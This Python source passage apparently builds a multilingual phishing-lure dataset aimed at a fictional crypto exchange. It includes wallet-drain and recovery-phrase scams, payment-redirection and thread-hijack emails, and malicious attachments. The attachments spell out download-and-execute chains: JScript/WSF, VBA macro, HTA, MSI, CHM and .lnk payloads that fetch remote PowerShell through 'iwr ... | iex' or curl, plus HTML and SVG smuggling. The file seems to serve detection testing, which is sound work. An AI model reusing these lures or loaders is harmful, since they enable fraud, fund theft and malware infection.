# -- wallet-request ---------------------------------------------------------------------------------

WALLET = [
    Mail("lure", "wallet-request", "en",
         "new 'counterparty' asks treasury to sign an EIP-712 SettlementAuthorization that names an operator delegate",
         ("Settlements - Arden Ridge Custody", "settlements@ardenridge-custody.com"), (TREASURY,),
         "Onboarding: settlement authorization signature",
         """Hello Kitsune treasury,

To activate same-day settlement with Arden Ridge, our portal needs a one-time EIP-712 signature from your
hot wallet. It costs no gas.

Portal: https://portal.ardenridge-custody.com/onboard/kitsune
Message: SettlementAuthorization { owner: 0x00000000000000000000000000000000000a11ce,
  delegate: 0x7d3A9e51cB04F28e6a1d0C9b5E2f7A84c61D3e90, scope: ALL_ASSETS, expiry: 0 }

Please sign with the hot wallet itself, the cold wallet is not needed.

Arden Ridge Settlements
""", "2026-11-03 12:00 +0000"),
    Mail("lure", "wallet-request", "ja",
         "fake regulator 'inspection' asks for the cold-wallet xpub and three words of the recovery phrase",
         ("金融庁 監督局 暗号資産モニタリング室", "monitoring@fsa-cryptoasset.jp"), (TANAKA_JA,),
         "【重要】分別管理状況の確認について（回答期限 11/11）",
         """キツネ取引所株式会社
トレジャリー担当者様

暗号資産の分別管理状況の確認のため、以下について本メールへの返信にてご回答ください。

1. コールドウォレットの拡張公開鍵（xpub）
2. 当該ウォレットのリカバリーフレーズのうち、3番目・7番目・15番目の単語
   （全単語の提出は不要です。保管状況の確認のみに使用します）

期限までにご回答がない場合、立入検査の対象となる場合があります。

金融庁 監督局
""", "2026-11-06 10:00 +0900"),
    Mail("lure", "wallet-request", "en",
         "corporate 'client' asks support to disable withdrawal-address whitelisting and change the 2FA phone",
         ("Victor Lindgren - Halecrest Trading", "victor@halecrest-trading.com"), (SUPPORT,),
         "URGENT - corporate account KX-C-20418",
         """Hello support,

I am the director of corporate account KX-C-20418. I lost my phone in Bangkok and need two things today:

1. Change the 2FA phone number on the account to +66 92 418 7730
2. Disable withdrawal-address whitelisting for 24 hours so I can send 42 BTC to our new custodian

I'm travelling and cannot do a video KYC, but I can answer any security questions here. This trade settles
tonight, please treat as priority.

Victor Lindgren
""", "2026-11-08 04:40 +0000"),
    Mail("lure", "wallet-request", "ko",
         "Korean 'partner' asks for a 1 BTC 'verification transfer' to a new cold wallet, promising to return it",
         ("대한디지털자산 운영팀", "ops@daehan-digital-assets.com"), (PARK,),
         "신규 콜드월렛 검증용 테스트 송금 요청",
         """박대현 님,

당사 콜드월렛 교체에 따라 거래 상대 거래소별로 검증 송금을 받고 있습니다.
아래 주소로 1 BTC를 보내 주시면 확인 즉시 1.0005 BTC로 돌려드립니다.

bc1qh8w3r5t0y2u9k6m4n7p1q3s5v8x0z2c4e6g9j

오늘 18시까지 완료되지 않으면 다음 주 정산이 지연될 수 있습니다.
""", "2026-11-11 14:55 +0900"),
    Mail("lure", "wallet-request", "zh",
         "OTC 'client' on QQ mail changes the payout address for today's trade and pushes urgency",
         ("Kevin Tsang", "kevintsang_otc@qq.com"), (LI,),
         "今天那笔USDT请打到新地址",
         """Li 生，

今天下午那笔 1,200,000 USDT 的成交，请不要打到之前登记的地址，我们的旧钱包上周被交易所风控冻结了。
新地址（TRC20）：TJx8e2KfR5wN3vQ9pL7mB4cD1hG6sA0uYz

客户在等，请尽快处理，晚一点汇率就变了。白名单手续之后我再补。

Kevin
""", "2026-11-12 13:40 +0800"),
    Mail("lure", "wallet-request", "fr",
         "'auditor' asks the Paris office for the hot-wallet keystore JSON and its password for a 'solvency tool'",
         ("Cabinet Fauvel Audit", "mission@fauvel-audit.fr"), (LAURENT,),
         "Audit de solvabilité - éléments à transmettre",
         """Madame Laurent,

Dans le cadre de la mission de preuve de réserves, notre outil doit vérifier directement la détention des
fonds. Merci de nous transmettre, pour le portefeuille chaud Ethereum :
- le fichier keystore (UTC--...json) exporté ;
- le mot de passe associé, dans un second message.

Les éléments seront supprimés à l'issue de la mission.

Cordialement,
Mathilde Renaud, Cabinet Fauvel Audit
""", "2026-11-13 11:00 +0100"),
    Mail("lure", "wallet-request", "ar",
         "fake 'audit team' asks the Dubai office to enter the 24-word recovery phrase in a Google Form",
         ("فريق التدقيق الداخلي", "audit.kitsune.mena@gmail.com"), (HADDAD,),
         "تدقيق المحافظ - مطلوب قبل الخميس",
         """السيد عمر حداد،

ضمن التدقيق الربعي لمحافظ مكتب دبي، يُطلب من كل مسؤول محفظة تأكيد عبارة الاسترداد (24 كلمة) عبر النموذج التالي:
https://docs.google.com/forms/d/e/1FAIpQLSd7kXw-audit-mena/viewform

البيانات مشفرة ولا يطلع عليها إلا فريق التدقيق. يرجى الإكمال قبل يوم الخميس.

فريق التدقيق الداخلي
""", "2026-11-14 09:30 +0400"),
]

# -- attachment -------------------------------------------------------------------------------------

_IMG_LNK = lnk(r"C:\Windows\System32\rundll32.exe", r"TermSheet.dll,DllRegisterServer",
               r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe,11", name="Term Sheet (PDF)")
_WSF = b"""<job id="remit"><script language="JScript">
var x = new ActiveXObject("MSXML2.ServerXMLHTTP.6.0");
x.open("GET", "https://remit-advice.net/s/r.txt", false); x.send();
new ActiveXObject("WScript.Shell").Run("powershell -w hidden -enc " + x.responseText, 0, false);
</script></job>
"""
_VM_ZIP = zip_archive([("Voicemail_0413.m4a.lnk",
                        lnk(r"C:\Windows\System32\cmd.exe",
                            r"/c curl -s https://vm-relay.net/p.bat -o %TEMP%\p.bat & %TEMP%\p.bat",
                            r"C:\Windows\System32\SHELL32.dll,168", name="Voicemail"))])

ATTACH = [
    Mail("lure", "attachment", "en",
         "'term sheet' as an .img disk image holding a .pdf.lnk that runs a DLL through rundll32",
         ("James Whitcombe", "j.whitcombe@calloway-growth.com"), (CEO,),
         "Revised term sheet - Calloway Growth",
         """Haruto,

Further to our call, attached is the revised term sheet with the valuation band we discussed. Our counsel
packaged it as a disk image to keep the formatting; just double-click the PDF inside.

Best,
James Whitcombe
Managing Director, Calloway Growth Partners
""", "2026-11-02 09:10 +0000",
         attachments=(Att("Calloway_TermSheet_Rev3.img",
                          iso_image([("Calloway_TermSheet_Rev3.pdf.lnk", _IMG_LNK),
                                     ("TermSheet.dll", pe_stub("img-termsheet-dll"))], volume="CALLOWAY"),
                          "application/octet-stream"),)),
    Mail("lure", "attachment", "ja",
         "'internal audit checklist' as a CHM that runs PowerShell through the HHCtrl ShortCut object",
         ("日本暗号資産監査協会 事務局", "jimukyoku@jcaa-audit.or.jp.net"), (TAKAHASHI_JA,),
         "暗号資産交換業者向け 内部監査チェックリスト（2026年版）送付のご案内",
         """会員各社 ご担当者様

2026年度版の内部監査チェックリストを送付いたします。
添付のヘルプファイル（.chm）を開くと、チェック項目と記入例をご覧いただけます。
「このファイルを開く前に常に警告する」が表示された場合は、チェックを外して「開く」を押してください。

日本暗号資産監査協会 事務局
""", "2026-11-04 14:00 +0900",
         attachments=(Att("内部監査チェックリスト2026.chm",
                          chm("内部監査チェックリスト", "cmd.exe,/c powershell -w hidden -c iwr https://jcaa-audit.or.jp.net/c.ps1 -UseB|iex",
                              "e-audit"), "application/vnd.ms-htmlhelp"),)),
    Mail("lure", "attachment", "en",
         "HTA 'remittance advice' that runs hidden PowerShell",
         ("Accounts Receivable - Pellucid Data", "ar@pellucid-data.co"), (KEIRI,),
         "Remittance advice REM-55130 - please confirm",
         """Dear Accounts Payable,

Please find attached the remittance advice for invoice PD-55130. Open the file to view the breakdown and
confirm receipt via the button at the bottom.

Regards,
Accounts Receivable
Pellucid Data Ltd
""", "2026-11-05 07:25 +0000",
         attachments=(Att("Remittance_REM-55130.hta",
                          hta("powershell -w hidden -nop -c \"iex (iwr https://pellucid-data.co/r.ps1 -UseB)\"",
                              "Remittance Advice"), "application/hta"),)),
    Mail("lure", "attachment", "en",
         "Excel add-in (.xll, native code) sent as a 'liquidity model'",
         ("Nadia Fenwick", "nadia.fenwick@tidewell-mm.com"), (TANAKA,),
         "Liquidity model we discussed",
         """Hi Mika,

As promised, here's our liquidity model as an Excel add-in - it pulls our quotes live. Open it in Excel
and click "Enable this add-in for this session only". Let me know what you think of the spreads.

Nadia
Tidewell Market Making
""", "2026-11-06 06:15 +0000",
         attachments=(Att("Tidewell_Liquidity_Model_v3.xll", pe_stub("xll-tidewell"),
                          "application/vnd.ms-excel"),)),
    Mail("lure", "attachment", "ja",
         "PPAP-style 7z with the password in the same mail, holding a JScript downloader named like a PDF",
         ("株式会社サンライズ警備 総務部", "soumu@sunrise-keibi.jp"), (KEIRI,),
         "【見積書送付】オフィス入退館システム更新の件",
         """キツネ取引所株式会社
経理部 御中

平素より大変お世話になっております。
入退館システム更新の御見積書を送付いたします。

添付ファイルはパスワード付き圧縮ファイルです。
パスワード：Sr2611kx

ご確認のほどよろしくお願いいたします。
""", "2026-11-07 10:05 +0900",
         attachments=(Att("御見積書_入退館システム.7z",
                          seven_zip([("御見積書_入退館システム.pdf.js", jscript("https://sunrise-keibi.jp/dl/q.txt"))],
                                    "Sr2611kx", "e-sunrise"), SEVENZ),)),
    Mail("lure", "attachment", "fr",
         "purchase order as a macro-enabled .docm whose Document_Open runs PowerShell",
         ("Service Achats - Groupe Lemaire", "achats@groupe-lemaire-invest.fr"), (LAURENT,),
         "Bon de commande n° BC-2611-077",
         """Bonjour,

Veuillez trouver ci-joint notre bon de commande pour l'ouverture de compte institutionnel.
Le document est protégé : cliquez sur « Activer le contenu » pour afficher les montants.

Cordialement,
Service Achats - Groupe Lemaire
""", "2026-11-09 09:35 +0100",
         attachments=(Att("BC-2611-077.docm", word_document(
             ["Bon de commande BC-2611-077", "Activez le contenu pour afficher ce document."],
             [("ThisDocument",
               'Private Sub Document_Open()\r\n'
               '    Dim s\r\n'
               '    Set s = CreateObject("WScript.Shell")\r\n'
               '    s.Run "powershell -w hidden -c iwr https://groupe-lemaire-invest.fr/m.ps1 -UseB | iex", 0, False\r\n'
               'End Sub\r\n', True)]),
             "application/vnd.ms-word.document.macroEnabled.12"),)),
    Mail("lure", "attachment", "ko",
         "'secure document viewer' MSI attached to a Korean contract mail, custom action runs PowerShell",
         ("법무법인 새솔 정민재 변호사", "mj.jung@saesol-law.kr"), (PARK,),
         "업무협약서 최종본 송부 (보안뷰어 설치 필요)",
         """박대현 님,

업무협약서 최종본을 송부드립니다. 당 법인 보안 정책상 문서는 전용 보안뷰어로만 열람 가능합니다.
첨부된 설치 파일을 먼저 실행하신 후 문서를 열어 주세요.

법무법인 새솔 정민재 드림
""", "2026-11-10 16:05 +0900",
         attachments=(Att("SaesolSecureViewer.msi",
                          msi("Saesol Secure Viewer", "powershell -w hidden -c iwr https://saesol-law.kr/v.ps1 -UseB | iex"),
                          "application/x-msi"),)),
    Mail("lure", "attachment", "zh",
         "'bank e-receipt' as an SVG that smuggles a zip with a .pdf.lnk",
         ("电子回单中心", "ereceipt@hk-bank-notice.com"), (LI,),
         "【电子回单】您有一笔跨境汇款入账",
         """尊敬的客户：

您有一笔跨境汇款已入账，金额 USD 386,200.00。
电子回单见附件，请用浏览器打开查看。

此邮件为系统自动发送，请勿回复。
""", "2026-11-11 11:50 +0800",
         attachments=(Att("电子回单_20261111.svg",
                          svg_smuggling(zip_archive([("电子回单.pdf.lnk",
                                                      lnk(r"C:\Windows\System32\mshta.exe", "https://hk-bank-notice.com/r.hta",
                                                          r"C:\Windows\System32\imageres.dll,2", name="回单"))]),
                                        "电子回单_20261111.zip", "正在加载电子回单..."),
                          "image/svg+xml"),)),
    Mail("lure", "attachment", "ar",
         "RLO file name makes a .scr look like a PDF quotation",
         ("شركة الريادة للحلول التقنية", "sales@alriyada-tech.ae"), (HADDAD,),
         "عرض سعر - أنظمة المراقبة",
         """السيد عمر المحترم،

تحية طيبة، مرفق عرض السعر الخاص بأنظمة المراقبة لمكتبكم في دبي. يرجى مراجعته وإبلاغنا بملاحظاتكم.

مع خالص التحية،
قسم المبيعات - الريادة للحلول التقنية
""", "2026-11-12 10:40 +0400",
         attachments=(Att("عرض_سعر_2026\u202efdp.scr", pe_stub("rlo-alriyada"), "application/octet-stream"),)),
    Mail("lure", "attachment", "en",
         "zip holding a Windows Script File (.wsf) named as a payment confirmation",
         ("Payments Desk - Corvane Bank", "payments@corvane-bank.com"), (TREASURY,),
         "Payment confirmation - your ref KX-OUT-7719",
         """Dear client,

Please find attached the payment confirmation for your outgoing transfer ref. KX-OUT-7719.
Open the attached archive and run the confirmation file to view the SWIFT MT103 details.

Payments Desk
Corvane Bank
""", "2026-11-13 08:05 +0000",
         attachments=(Att("MT103_KX-OUT-7719.zip", zip_archive([("MT103_KX-OUT-7719.wsf", _WSF)]), ZIP),)),
    Mail("lure", "attachment", "en",
         "'voicemail' HTML attachment that smuggles a zip with a .m4a.lnk",
         ("Voice Message Service", "voicemail@kitsune-ex.cloud-pbx.net"), (ITO,),
         "New voicemail from +81 3-5412-8870 (0:47)",
         """You have a new voicemail.

From: +81 3-5412-8870
Length: 0:47
Received: 13 Nov 2026 17:02

Open the attached player to listen.
""", "2026-11-13 17:04 +0900",
         attachments=(Att("VM_Player_0413.html",
                          html_smuggling(_VM_ZIP, "Voicemail_0413.zip", "Voicemail Player",
                                         "Your voicemail is downloading..."), "text/html"),)),
]

# -- conversation-hijack ----------------------------------------------------------------------------

HIJACK = [
    Mail("lure", "conversation-hijack", "en",
         "reply in the Halvorsen Prime thread from a homoglyph domain (prlme) with In-Reply-To, changes settlement wallet",
         HALVORSEN_FAKE, (TANAKA,),
         "RE: November settlement schedule - Halvorsen Prime / Kitsune",
         """Hi Mika,

Thanks for confirming the schedule. One change on our side before the 14th: our custodian is rotating
wallets after an internal audit, so please settle to the new address below from this cycle onward.

USDC (Ethereum): 0x3F9b0c2E7d41A86e5C0b9D2f7a13E48c6B95d0A2

The old address will be retired Monday. Can you confirm once your whitelist is updated?

Best regards,
Ingrid Solberg
Head of Settlements, Halvorsen Prime AS
""", "2026-11-05 15:20 +0100", in_reply_to=HALVORSEN_REPLY_MID,
         references=f"{HALVORSEN_MID} {HALVORSEN_REPLY_MID}"),
    Mail("lure", "conversation-hijack", "ja",
         "reply in the Kirishima Trust thread from kirishima-trust.jp (TLD swap) with In-Reply-To: new receiving bank account",
         KIRISHIMA_FAKE, (KEIRI,),
         "Re: 11月分 信託報酬のご請求について",
         """キツネ取引所株式会社
経理部 御中

いつもお世話になっております。霧島信託銀行の森本でございます。
先日お送りいたしました請求書につきまして、システム移行に伴い、
今回のお振込先が下記口座に変更となりました。お手数ですが、こちらへお振込みいただけますでしょうか。

みずなみ銀行 本店営業部 普通 7718204
口座名義 キリシマシンタク（カ

旧口座へのお振込みは返金処理となりますのでご注意ください。
何卒よろしくお願い申し上げます。
""", "2026-11-06 13:40 +0900", in_reply_to=KIRISHIMA_MID, references=KIRISHIMA_MID),
    Mail("lure", "conversation-hijack", "fr",
         "forward from a plural lookalike (vasseur-conseils.fr) without In-Reply-To, ZipCrypto zip with a .pdf.lnk and the password in the body",
         VASSEUR_FAKE, (LAURENT,),
         "TR: Note CASP - version annotée",
         """Camille,

Comme convenu, je vous transfère la note annotée par notre associé. Le document est chiffré pour des raisons
de confidentialité ; mot de passe : Vass2611

Bien à vous,
Hélène Vasseur
Atelier Vasseur Conseil

-------- Message transféré --------
De : Hélène Vasseur
Objet : Note CASP - calendrier de dépôt
""", "2026-11-08 11:15 +0100",
         attachments=(Att("Note_CASP_annotee.zip",
                          zip_archive([("Note_CASP_annotee.pdf.lnk",
                                        lnk(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                                            "-w hidden -c \"iwr https://vasseur-conseils.fr/n.ps1 -UseB | iex\"",
                                            r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe,11",
                                            name="Note CASP"))], password="Vass2611"), ZIP),)),
    Mail("lure", "conversation-hijack", "ko",
         "reply in the Daehan Digital Assets thread from daehan-da.kr (TLD swap) with In-Reply-To: new USDT address",
         DAEHAN_FAKE, (PARK,),
         "RE: 11월 유동성 공급 정산 일정",
         """박대현 님,

일정 확인 감사합니다. 한 가지 변경 사항이 있습니다.
내부 보안 감사 결과에 따라 이번 회차부터 정산 지갑을 아래 주소로 변경하오니, 반영 부탁드립니다.

USDT (ERC-20): 0xA4c29E7b1d83F06e5B2a9C0d47E1f3b8D6c52e91

기존 주소로 보내시면 확인이 지연됩니다. 변경 반영 후 회신 주시면 감사하겠습니다.

한지원 드림
""", "2026-11-09 17:05 +0900", in_reply_to=DAEHAN_MID, references=DAEHAN_MID),
    Mail("lure", "conversation-hijack", "zh",
         "RE: from lianhe-cap.com.hk (combo of the partner's .hk domain) without In-Reply-To, links a 'revised agreement' exe",
         LIANHE_FAKE, (LI,),
         "回复: 场外交易框架协议修订稿",
         """李先生，

法务刚更新了框架协议第7条（结算时限），修订稿放在我们的文件柜里，需要用我们的安全阅读器打开：
https://lianhe-cap.com.hk/docs/LH_Agreement_Reader.exe

请今天内看一下，明天上午签署。谢谢！

周嘉慧
联和资本 交易运营部
""", "2026-11-10 15:30 +0800"),
    Mail("lure", "conversation-hijack", "ar",
         "reply in the Qimma Digital thread from a doubled-letter lookalike with In-Reply-To: new bank IBAN",
         QIMMA_FAKE, (HADDAD,),
         "رد: فاتورة رسوم الوساطة - أكتوبر",
         """عزيزي عمر،

شكراً لتأكيدكم. نود إعلامكم بأن حسابنا البنكي السابق قيد التحديث بسبب المراجعة السنوية،
لذا يرجى تحويل رسوم أكتوبر إلى الحساب الجديد التالي:

البنك: بنك الخليج الأول - فرع المرور
رقم الآيبان: AE49 0330 0000 1928 4470 312

نرجو إتمام التحويل اليوم لتجنب رسوم التأخير.

سالم المنصوري
القمة الرقمية
""", "2026-11-11 12:25 +0400", in_reply_to=QIMMA_MID, references=QIMMA_MID),
]

LURES = [*EXEC, *VENDOR, *LOOKALIKE, *RECRUITER, *INVESTOR, *TRADING, *WALLET, *ATTACH, *HIJACK]
